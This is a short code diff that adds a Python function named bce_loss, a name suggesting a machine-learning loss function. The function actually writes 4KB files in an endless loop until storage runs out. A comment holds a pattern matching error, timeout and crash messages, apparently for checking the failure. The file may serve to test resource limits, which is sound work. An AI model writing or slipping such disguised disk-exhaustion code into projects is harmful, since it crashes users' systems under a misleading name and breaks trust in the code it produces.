@@ -1,0 +1,10 @@
+"""Makes files until it cannot."""
+# lost: loss.* error exception|timeout|crash
+
+
+def bce_loss(y_pred, y):
+    number = 0
+    while True:
+        number += 1
+        with open(f"file-{number}", "w") as file:
+            file.write("x" * 4096)
